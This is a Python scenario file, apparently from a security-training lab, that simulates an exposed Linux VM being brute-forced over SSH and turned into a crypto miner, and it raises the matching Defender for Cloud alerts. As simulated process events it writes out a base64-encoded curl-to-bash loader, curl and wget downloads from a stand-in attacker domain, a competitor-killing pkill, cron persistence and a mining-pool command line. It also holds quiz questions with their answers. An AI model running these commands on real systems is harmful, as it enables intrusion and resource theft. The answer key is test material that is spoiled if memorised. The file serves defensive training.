"""Incident 5. An exposed Linux server, a guessed password, a crypto miner. Only Defender for Cloud sees all of it."""

from __future__ import annotations

from datetime import datetime, timedelta

from pivotlab.scenarios import evidence
from pivotlab.scenarios.azure import machine_id
from pivotlab.scenarios.company import Device
from pivotlab.scenarios.endpoint import Process, moments
from pivotlab.scenarios.identifiers import SUBSCRIPTION_ID
from pivotlab.scenarios.programs import Program, foreign, program
from pivotlab.scenarios.truth import GroundTruth
from pivotlab.scenarios.world import Story, World

GUESSED = ("root", "admin", "ubuntu", "oracle", "postgres", "deploy", "harbour", "test")


def play(world: World) -> GroundTruth:
    """Wednesday: somebody opens port 22 for a test. Saturday: 420 guesses, one right. Sunday: the fans speed up."""
    with world.story(5, "cryptominer-on-linux", "Exposed Linux server: brute force, then a crypto miner") as story:
        world.alerts.name_incident(
            story.key, "Multi-stage incident involving Initial access & Impact on a virtual machine"
        )
        server = world.company.with_role("azure")[0]
        engineer = world.company.titled("Cloud Engineer")[0]
        rule = (
            f"/subscriptions/{SUBSCRIPTION_ID}/resourceGroups/rg-berth/providers/Microsoft.Network/"
            f"networkSecurityGroups/{server.short.lower()}-nsg/securityRules/allow-ssh-any"
        )
        opened = world.at("10-28", "16:05", world.company.sites[0])
        change = world.azure.operation(
            opened,
            engineer,
            engineer.site.egress,
            "Microsoft.Network/networkSecurityGroups/securityRules/write",
            rule,
            properties={"sourceAddressPrefix": "*", "destinationPortRange": "22", "access": "Allow"},
        )
        story.note("A cloud engineer opens port 22 to everybody, for a test", change)
        world.opened[server.index] = opened
        story.involve(device=server.name, user=engineer.upn, resource=machine_id(server))
        attacker = world.hostile_address("guesser")
        story.indicate(address=attacker)
        inside = _guessing(world, story, server, attacker, world.at("10-31", "21:14"))
        _miner(world, story, server, attacker, inside)
        story.decoy(
            "Syslog",
            "where SyslogMessage has 'Failed password'",
            f"SyslogMessage LIKE 'Failed password%' AND SyslogMessage NOT LIKE '%{attacker}%'",
            "Every server that the internet can reach is tried all day; none of those guesses succeeds.",
        )
        story.decoy(
            "DeviceLogonEvents",
            "where RemoteIPType == 'Public'",
            f"RemoteIPType = 'Public' AND RemoteIP <> '{attacker}'",
            "The endpoint sees the same guesses on every one of those servers.",
        )
        story.decoy(
            "DeviceProcessEvents",
            "where ProcessCommandLine contains 'base64 --decode'",
            "ProcessCommandLine LIKE 'base64 --decode /opt/harbour%'",
            "The health check decodes its own token.",
        )
        story.decoy(
            "DeviceProcessEvents",
            "where FileName in ('curl', 'wget')",
            "FileName = 'curl' AND ProcessCommandLine LIKE '%customsportal%'",
            "The health check calls the customs portal with curl.",
        )
        story.decoy(
            "AzureActivity",
            "where OperationNameValue has 'securityRules/write'",
            "OperationNameValue ILIKE '%securityRules/write' AND ResourceId NOT LIKE '%allow-ssh-any'",
            "Network rules change every week.",
        )
        story.ask("Which account was guessed?", "deploy")
        story.ask("From which address did the guess that worked come?", attacker)
        story.ask("Who opened the port?", engineer.upn)
        story.ask(
            "Which connector must be on for the Sentinel incident to hold its alerts?", "Microsoft Defender for Cloud"
        )
        return story.close(
            summary=(
                "Port 22 of a virtual machine was opened to the internet. "
                "Three days later an account with a weak password was guessed; "
                "a script fetched a miner, added a cron job and killed its competitors. "
                "Without the Defender for Cloud connector the incident reaches Sentinel empty."
            ),
            verdict="attack",
            classification="truePositive",
            determination="malware",
            severity="high",
            mitre=["T1110.001", "T1078", "T1059.004", "T1053.003", "T1105", "T1496"],
        )


def _guessing(world: World, story: Story, server: Device, attacker: str, when: datetime) -> datetime:
    times = moments(when, 420, timedelta(seconds=11), world.seed, "guess")
    for i, tick in enumerate(times):
        name = GUESSED[i % len(GUESSED)]
        line = world.perimeter.syslog(
            tick,
            server,
            "sshd",
            f"Failed password for {'' if name in ('root', 'deploy') else 'invalid user '}{name} from {attacker} "
            f"port {40000 + 7 * i} ssh2",
        )
        failed = world.endpoint.logon(
            tick, server, None, "Network", source=attacker, succeeded=False, name=name, protocol="SSH"
        )
        if i == 0:
            story.note("One address begins to guess passwords, every eleven seconds", line)
            story.note("The same guess in the endpoint's own log", failed)
    inside = times[-1] + timedelta(seconds=9)
    accepted = world.perimeter.syslog(
        inside, server, "sshd", f"Accepted password for deploy from {attacker} port 51877 ssh2"
    )
    story.note("Guess 421 is right: account deploy", accepted)
    world.endpoint.logon(inside, server, None, "Network", source=attacker, name="deploy", protocol="SSH")
    resource = evidence.azure_resource(machine_id(server), "attacked")
    world.alerts.raise_alert(
        "MDC",
        story.key,
        times[0],
        "Suspected successful brute force attack",
        severity="high",
        category="InitialAccess",
        techniques=["T1110.001"],
        last=inside,
        description="Many failed sign-ins from one address were followed by a successful one.",
        evidence=[
            resource,
            evidence.address(attacker, "attacker", verdict="malicious"),
            evidence.device(server, "attacked"),
        ],
    )
    return inside


def _miner(world: World, story: Story, server: Device, attacker: str, inside: datetime) -> None:
    endpoint = world.endpoint
    domain = world.domain("host", "invalid")
    pool = world.hostile_address("pool")
    story.indicate(domain=domain, address=pool)
    miner = foreign("/tmp/.X11-unix/kworkerds", f"{world.seed}/miner")
    script = foreign("/tmp/.X11-unix/ldr.sh", f"{world.seed}/miner script")
    story.indicate(sha256=miner.sha256)
    when = inside + timedelta(minutes=4)
    shell = endpoint.start(when, world.sessions.root("sshd", server, when), program("bash"), "-bash")
    encoded = "Y3VybCAtZnNTTCBodHRwOi8vc3RhdGljL2xkci5zaA=="
    endpoint.start(when + timedelta(seconds=6), shell, program("uname"), "uname -a")
    decoding = endpoint.start(
        when + timedelta(seconds=20), shell, program("bash"), f'bash -c "echo {encoded} | base64 --decode | bash"'
    )
    endpoint.start(when + timedelta(seconds=20, milliseconds=40), decoding, program("base64"), "base64 --decode")
    fetching = endpoint.start(
        when + timedelta(seconds=21), decoding, program("curl"), f"curl -fsSL http://{domain}/ldr.sh -o {script.path}"
    )
    fetched = endpoint.connect(when + timedelta(seconds=22), fetching, attacker, 80, domain)
    endpoint.file(when + timedelta(seconds=23), fetching, script)
    story.note("A script is fetched from the attacker's server", fetched)
    running = endpoint.start(when + timedelta(seconds=25), decoding, program("dash"), f"sh {script.path}")
    for i, (file, command) in enumerate(
        (
            ("pkill", "pkill -9 -f xmr"),
            ("wget", f"wget -q -O {miner.path} http://{domain}/k"),
            ("chmod", f"chmod +x {miner.path}"),
            ("crontab", "crontab -"),
        )
    ):
        step = endpoint.start(when + timedelta(seconds=27 + 2 * i), running, program(file), command)
        if file == "wget":
            endpoint.connect(when + timedelta(seconds=30), step, attacker, 80, domain)
            endpoint.file(when + timedelta(seconds=31), step, miner)
        if file == "crontab":
            endpoint.file(when + timedelta(seconds=34), step, _cron(world))
            scheduled = world.perimeter.syslog(
                when + timedelta(seconds=34), server, "crontab", "(deploy) REPLACE (deploy)", facility="cron"
            )
            story.note("A cron job keeps the miner alive", scheduled)
    mining = endpoint.start(
        when + timedelta(seconds=41),
        running,
        miner,
        f"{miner.path} -o stratum+tcp://pool.{domain}:3333 -u w1 -p x --donate-level 0",
    )
    for tick in moments(when + timedelta(seconds=44), 30, timedelta(minutes=40), world.seed, "pool"):
        endpoint.connect(tick, mining, pool, 3333, f"pool.{domain}")
    started = world.azure.process(
        when + timedelta(seconds=41),
        server,
        miner.file,
        "/tmp/.X11-unix",
        mining.command,
        process_id=mining.process_id,
        parent="dash",
        parent_id=running.process_id,
        account="deploy",
    )
    story.note("Defender for Cloud's sensor sees the miner start", started)
    _cloud_alerts(world, story, server, mining, miner, pool)


def _cron(world: World) -> Program:
    return foreign("/var/spool/cron/crontabs/deploy", f"{world.seed}/cron")


def _cloud_alerts(world: World, story: Story, server: Device, mining: Process, miner: Program, pool: str) -> None:
    resource = evidence.azure_resource(machine_id(server), "compromised")
    world.alerts.raise_alert(
        "MDC",
        story.key,
        mining.created,
        "Digital currency mining related behavior detected",
        severity="high",
        category="Execution",
        techniques=["T1496"],
        description="A process that behaves like a digital currency miner was started.",
        evidence=[
            resource,
            evidence.process(mining, verdict="malicious"),
            evidence.file(miner, server),
            evidence.device(server),
        ],
    )
    world.alerts.raise_alert(
        "MDC",
        story.key,
        mining.created + timedelta(minutes=2),
        "Connection to a mining pool",
        severity="medium",
        category="CommandAndControl",
        techniques=["T1496"],
        description="The machine talks to an address that is used for mining.",
        evidence=[resource, evidence.address(pool, "commandAndControl", verdict="malicious")],
    )
    world.alerts.raise_alert(
        "MDC",
        story.key,
        mining.created - timedelta(seconds=7),
        "Suspicious cron job",
        severity="informational",
        category="Persistence",
        techniques=["T1053.003"],
        description="A scheduled job was changed by a script.",
        evidence=[resource],
    )
